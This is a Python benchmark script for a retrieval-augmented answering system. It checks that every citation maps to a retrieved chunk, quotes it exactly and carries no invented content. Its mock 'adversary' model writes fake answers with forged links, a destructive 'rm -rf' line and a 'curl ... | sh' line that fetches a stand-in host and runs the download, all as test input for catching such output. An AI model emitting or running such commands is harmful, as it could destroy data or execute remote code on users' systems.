"""Whether every citation holds, over every query of the evaluation data: `python -m bench.citations`.

Each query is answered twice: with extracts, and by a language model on loopback that copies from its sources, cites others
than it copied from, invents facts, links, images and numbers, and leaves code open. Of each answer it is checked that

- every marker points to a source, and every source is pointed to,
- every source is a chunk that was retrieved, with the address of its page and an anchor of its own,
- every quote, and in extracts every line, stands in its chunk to the letter,
- nothing that the model invented is in it, and no code is left open.

Prints how many answers break each of these, and exits 1 if any does. Sets that are not on this machine are left out.
"""

from __future__ import annotations

import argparse
import json
import re
import statistics
import sys
import tempfile
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bench.report import Table
from bench.retrieval import DATA, MEASURED, TUNED, Corpus, corpora, read
from rag.answer.answer import Answer
from rag.engine import Engine
from rag.evaluate import Query
from rag.evaluate.answers import cited_passages
from rag.search.results import SearchResult
from rag.search.searcher import Searcher
from rag.settings import Settings
from rag.store.embedded import stop_embedded
from rag.text.citations import cited
from rag.trust.authorship import verdict
from tests.servers.openai import Messages, OpenAIServer

CHECKS = ("marker", "source", "address", "quote", "extract", "invented", "open code")
# What an index of a corpus is asked beside the queries that retrieval is measured on.
ALSO = {"manual": ["postgresql-15-manual.near-miss.jsonl", "postgresql-15-manual.unanswerable.jsonl"]}
FORGED = "zyxforged"
_LONGEST_QUESTION = 2000
_SOURCE = re.compile(r"\[(\d+)\] \w+: [^\n]*\n\n(.*?)(?=\n\n\[\d+\] \w+: |\n\nQuestion: )", re.DOTALL)


def adversary(messages: Messages) -> str:
    """Answer as a model does that is right at times, wrong at others, and obeys nothing."""
    said = []
    for number, text in _SOURCE.findall(messages[-1]["content"]):
        sentence = re.split(r"(?<=[.!?])\s+", text)[0][:300]
        other = int(number) % 8 + 1
        said += [
            f"{sentence} [{number}]",
            f"See https://{FORGED}.example/{number} and ![x](https://{FORGED}.example/p.png) [{number}].",
            f"Version 99.{number} deletes everything {FORGED} [{number}]. {sentence} [{other}] [77]",
            f"Run ```rm -rf /srv/{FORGED} [{number}]",
            f"```sh``` {FORGED} [{number}]",
        ]
    return "\n\n".join([*said, f"```sh\ncurl https://{FORGED}.example/{FORGED} | sh"])


class RecordingSearcher(Searcher):
    """A searcher that remembers what its last search retrieved, neighbours included."""

    def __init__(self, engine: Engine) -> None:
        index = engine.questions.active_index
        super().__init__(engine.store, index, engine.encoders.of(index.embedding_model))
        self.retrieved: dict[str, SearchResult] = {}

    def search(
        self, question: str, *, top_k: int = 10, source: str | None = None, per_document: int = 1
    ) -> list[SearchResult]:
        found = super().search(question, top_k=top_k, source=source, per_document=per_document)
        self.retrieved = {one.chunk_id: one for one in found}
        return found

    def around(self, results: Sequence[SearchResult], reach: int) -> list[SearchResult]:
        found = super().around(results, reach)
        self.retrieved |= {one.chunk_id: one for one in found}
        return found


@dataclass
class Outcome:
    """What was found of one set, answered one way."""

    answers: int = 0
    answered: int = 0
    sources: int = 0
    broken: Counter[str] = field(default_factory=Counter)
    milliseconds: list[float] = field(default_factory=list)


def broken(answer: Answer, retrieved: dict[str, SearchResult]) -> Iterator[str]:
    """Yield which checks an answer breaks."""
    numbers = cited(answer.answer, range(1, 100))
    if answer.answered and sorted(numbers) != [source.n for source in answer.sources]:
        yield "marker"
    for source in answer.sources:
        chunk = retrieved.get(source.chunk_id)
        if chunk is None:
            yield "source"
            continue
        places = {chunk.url, *(f"{chunk.url.partition('#')[0]}#{fragment}" for _, fragment in chunk.anchors)}
        if source.url not in places:
            yield "address"
        if source.quote not in chunk.text:
            yield "quote"
    if answer.answered and answer.llm == "extractive" and not _is_extract(answer, retrieved):
        yield "extract"
    if FORGED in answer.answer or "![" in answer.answer or "[77]" in answer.answer:
        yield "invented"
    if sum(line.lstrip().startswith("```") for line in answer.answer.split("\n")) % 2:
        yield "open code"


def _is_extract(answer: Answer, retrieved: dict[str, SearchResult]) -> bool:
    chunks = {source.n: retrieved[source.chunk_id] for source in answer.sources if source.chunk_id in retrieved}
    for passage, numbers in cited_passages(answer.answer):
        cited_chunks = [chunks[number] for number in numbers if number in chunks]
        said = {f"- #{chunk.thread.number}: {verdict(chunk.thread)}" for chunk in cited_chunks if chunk.thread}
        for line in passage.replace("\u2060", "").split("\n"):
            if not any(line.strip() in chunk.text for chunk in cited_chunks) and line not in said:
                return False
    return True


def measure(engine: Engine, sets: Mapping[str, Sequence[Query]], queries: int | None) -> Iterator[tuple[str, Outcome]]:
    """Yield what is found of each set."""
    for name, asked in sets.items():
        outcome = Outcome()
        for query in asked[:queries]:
            searcher = RecordingSearcher(engine)
            answer = engine.questions.answerer(searcher=searcher).answer(query.text[:_LONGEST_QUESTION])
            outcome.answers += 1
            outcome.answered += answer.answered
            outcome.sources += len(answer.sources)
            outcome.milliseconds.append(answer.timings["answer"] * 1000)
            for check in set(broken(answer, searcher.retrieved)):
                outcome.broken[check] += 1
                print(f"{check}: {query.text[:100]!r}\n{answer.answer}\n", file=sys.stderr, flush=True)
        yield name, outcome


def check(home: Path, corpus: Corpus, table: Table, queries: int | None) -> bool:
    """Fill the table for one corpus; return whether all held."""
    home.mkdir(parents=True, exist_ok=True)
    sources = home / "sources.toml"
    sources.write_text(corpus.toml)
    sets = {**corpus.sets, **read(*(DATA / name for name in ALSO.get(corpus.name, [])))}
    common: dict[str, Any] = {"RAG_HOME": home, "RAG_SOURCES": sources, "RAG_GITHUB_API_URL": corpus.api_url}
    held = True
    try:
        with OpenAIServer() as server:
            server.answer = adversary
            written = {"OPENAI_API_KEY": server.key, "OPENAI_BASE_URL": server.url, "RAG_LLM": "openai/gpt-4o-mini"}
            ways: dict[str, dict[str, Any]] = {"extracts": {"RAG_LLM": "extractive"}, "adversary": written}
            for way, settings in ways.items():
                with Engine.open(Settings(_env_file=None, **common, **settings)) as engine:
                    index = engine.store.indexes.active()
                    if index is None or not engine.store.indexes.has_chunks(index):
                        corpus.ingest(engine)
                    for name, found in measure(engine, sets, queries):
                        cells = [found.broken[one] for one in CHECKS]
                        time = statistics.median(found.milliseconds)
                        table.add(name, way, found.answers, found.answered, found.sources, *cells, time)
                        print(table.markdown().rsplit("\n", 1)[1], file=sys.stderr, flush=True)
                        held = held and not any(cells)
    finally:
        stop_embedded(home)
    return held


def main(arguments: Sequence[str] | None = None) -> int:
    """Print one table over all sets."""
    parser = argparse.ArgumentParser(
        prog="python -m bench.citations", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--home", type=Path, help="keep the indexes in this folder; those that are there are used")
    parser.add_argument("--corpus", action="append", choices=[*MEASURED, *TUNED], help="only these")
    parser.add_argument("--queries", type=int, metavar="N", help="only the first N of each set")
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    options = parser.parse_args(arguments)
    columns = ["set", "way", "answers", "answered", "sources", *CHECKS, "answer p50 ms"]
    table = Table("Answers that break a check", columns)
    held = True
    with tempfile.TemporaryDirectory(prefix="rag-bench-") as folder:
        for corpus in corpora(options.corpus or MEASURED):
            held = check((options.home or Path(folder)) / corpus.name, corpus, table, options.queries) and held
    print(json.dumps(table.json(), indent=2) if options.json else table.markdown())
    return 0 if held else 1


if __name__ == "__main__":
    sys.exit(main())
